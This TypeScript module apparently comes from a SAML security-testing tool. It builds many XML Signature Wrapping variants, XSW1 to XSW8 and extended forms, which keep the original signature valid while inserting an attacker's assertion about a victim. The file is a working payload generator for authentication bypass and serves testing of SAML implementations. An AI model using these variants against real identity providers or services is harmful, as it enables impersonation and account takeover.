import { replaced } from './edits'
import {
  holding,
  inObject,
  into,
  type Kit,
  type Pieces,
  renamed,
  signedWith,
  takeApart,
  unsigned,
  type Variants,
} from './variant'

/**
 * Signature wrapping: what was signed is still there, elsewhere, and what is read is something else. XSW1 to XSW8 are numbered as in
 * SAML Raider; the first two move the response, the others the assertion.
 */
export const responseWrapping: Variants = {
  xsw1: overResponse((p) => signedWith(evilResponse(p), into(p.responseSignature, plainResponse(p)))),
  'xsw1-object': overResponse((p) =>
    signedWith(evilResponse(p), into(p.responseSignature, inObject(plainResponse(p)))),
  ),
  xsw2: overResponse((p) => signedWith(evilResponse(p), plainResponse(p) + p.responseSignature)),
  'xsw-response-in-extensions': overResponse((p) =>
    signedWith(evilResponse(p), `${p.responseSignature}<samlp:Extensions>${plainResponse(p)}</samlp:Extensions>`),
  ),
  'xsw-response-at-end': overResponse((p) => signedWith(into(evilResponse(p), plainResponse(p)), p.responseSignature)),
  'xsw-response-under-evil': overResponse((p) => into(evilResponse(p), p.xml)),
  'xsw-response-twin': overResponse((p) =>
    signedWith(unsigned(holding(p, evilOf(p))), into(p.responseSignature, inObject(plainResponse(p)))),
  ),
}

const forms: Readonly<Record<string, (p: Pieces) => string>> = {
  xsw3: (p) => holding(p, evilOf(p) + p.assertion),
  'xsw3-after': (p) => holding(p, p.assertion + evilOf(p)),
  xsw4: (p) => holding(p, into(evilOf(p), p.assertion)),
  'xsw4-subject': (p) => holding(p, replaced('</saml:Subject>', `${p.assertion}</saml:Subject>`)(evilOf(p))),
  xsw5: (p) => holding(p, signedWith(p.evil, p.signature) + p.bare),
  xsw6: (p) => holding(p, signedWith(p.evil, into(p.signature, p.bare))),
  xsw7: (p) => holding(p, inExtensions(evilOf(p)) + p.assertion),
  'xsw7-reverse': (p) => holding(p, inExtensions(p.assertion) + evilOf(p)),
  'xsw7-reverse-after': (p) => holding(p, evilOf(p) + inExtensions(p.assertion)),
  'xsw7-reverse-bare': (p) => holding(p, inExtensions(p.bare) + signedWith(p.evil, p.signature)),
  xsw8: (p) => holding(p, signedWith(p.evil, into(p.signature, inObject(p.bare)))),
  'xsw8-evil-in-object': (p) => p.xml.replace(p.signature, () => into(p.signature, inObject(p.evil))),
  'xsw-keyinfo': (p) =>
    holding(p, signedWith(p.evil, replaced('</ds:KeyInfo>', `${p.bare}</ds:KeyInfo>`)(p.signature))),
  'xsw-statusdetail': (p) =>
    replaced(
      '</samlp:Status>',
      `<samlp:StatusDetail>${p.assertion}</samlp:StatusDetail></samlp:Status>`,
    )(holding(p, evilOf(p))),
  'xsw-advice': (p) => holding(p, into(evilOf(p), `<saml:Advice>${p.assertion}</saml:Advice>`)),
  'xsw-advice-reverse': (p) => holding(p, into(p.assertion, `<saml:Advice>${evilOf(p)}</saml:Advice>`)),
  'xsw-attribute-value': (p) =>
    holding(p, replaced('</saml:AttributeValue>', `${p.assertion}</saml:AttributeValue>`)(evilOf(p))),
  'xsw-sig-moved-extensions': (p) => holding(p, inExtensions(p.signature) + p.evil),
  'xsw-sig-moved-status': (p) => replaced('</samlp:Status>', `${p.signature}</samlp:Status>`)(holding(p, p.evil)),
  'xsw-assertion-sig-at-root': (p) => signedWith(holding(p, p.bare + p.evil), p.signature),
  'xsw-assertion-sig-at-end': (p) => into(holding(p, p.evil + p.bare), p.signature),
  'xsw-twin-first': (p) => holding(p, p.evilTwin + p.assertion),
  'xsw-twin-after': (p) => holding(p, p.assertion + p.evilTwin),
  'xsw-twin-in-advice': (p) => holding(p, into(p.evilTwin, `<saml:Advice>${p.assertion}</saml:Advice>`)),
  'xsw-foreign-box': (p) => holding(p, `<x:box xmlns:x="urn:x">${p.assertion}</x:box>${evilOf(p)}`),
  'xsw-foreign-box-alone': (p) => holding(p, `<x:box xmlns:x="urn:x">${p.assertion}</x:box>`),
}

/** Around the assertion; where the response is signed as well, once with its signature broken, and once with it wrapped too. */
export const assertionWrapping: Variants = Object.fromEntries(
  Object.entries(forms).flatMap(([name, form]) => [
    [name, (kit: Kit) => form(takeApart(kit.answer()))],
    [
      `${name}-both-layers`,
      (kit: Kit) => (kit.mode === 'assertion' ? null : bothLayers(takeApart(kit.answer()), form)),
    ],
  ]),
)

export const rootWrapping: Variants = {
  'xsw-root-wrap': (kit) => `<x xmlns="urn:x">${kit.answer()}</x>`,
  'xsw-root-wrap-evil': (kit) => {
    const pieces = takeApart(kit.answer())
    return `<x xmlns="urn:x">${evilResponse(pieces)}${pieces.xml}</x>`
  },
  'xsw-soap': (kit) =>
    `<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>${kit.answer()}</e:Body></e:Envelope>`,
  'xsw-assertion-root': (kit) => takeApart(kit.answer()).assertion,
  'xsw-response-in-response': (kit) => {
    const pieces = takeApart(kit.answer())
    return into(renamed(withoutResponseSignature(pieces, holding(pieces, ''))), pieces.xml)
  },
}

function overResponse(wrap: (pieces: Pieces) => string) {
  return (kit: Kit) => (kit.mode === 'assertion' ? null : wrap(takeApart(kit.answer())))
}

/** The response about the victim, without its own signature. */
function evilResponse(pieces: Pieces): string {
  return renamed(withoutResponseSignature(pieces, holding(pieces, evilOf(pieces))))
}

function plainResponse(pieces: Pieces): string {
  return withoutResponseSignature(pieces, pieces.xml)
}

function withoutResponseSignature({ responseSignature }: Pieces, xml: string): string {
  return xml.replace(responseSignature, '')
}

/** The assertion about the victim, with the signature of the other one where the source wants assertions signed. */
function evilOf({ evil, assertionSignature }: Pieces): string {
  return assertionSignature === '' ? evil : signedWith(evil, assertionSignature)
}

function bothLayers(pieces: Pieces, form: (pieces: Pieces) => string): string {
  const outer = renamed(withoutResponseSignature(pieces, form(pieces)))
  return signedWith(outer, into(pieces.responseSignature, inObject(plainResponse(pieces))))
}

function inExtensions(inner: string): string {
  return `<samlp:Extensions>${inner}</samlp:Extensions>`
}
